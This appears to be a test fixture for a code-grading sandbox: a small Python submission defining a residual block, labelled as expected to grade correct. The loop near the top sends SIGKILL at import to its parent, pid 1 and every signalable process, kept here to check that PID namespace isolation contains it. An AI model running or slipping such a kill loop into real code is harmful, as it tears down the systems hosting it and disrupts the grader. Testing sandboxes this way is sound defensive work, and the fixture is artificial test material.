# expect: correct
# threat: SIGKILLs its parent, pid 1 and every process it can signal at import; each learner's parent is the init of its own PID namespace (the worker that serves the next learner is invisible to it), so nothing dies and it is graded like any correct solution
import os
import signal

import numpy as np

for _target in (os.getppid(), 1, -1):
    try:
        if _target not in (0, os.getpid()):
            os.kill(_target, signal.SIGKILL)
    except OSError:
        pass


def residual_block(x, w1, w2):
    hidden = np.maximum(w1 @ x, 0.0)
    return np.maximum(w2 @ hidden + x, 0.0)
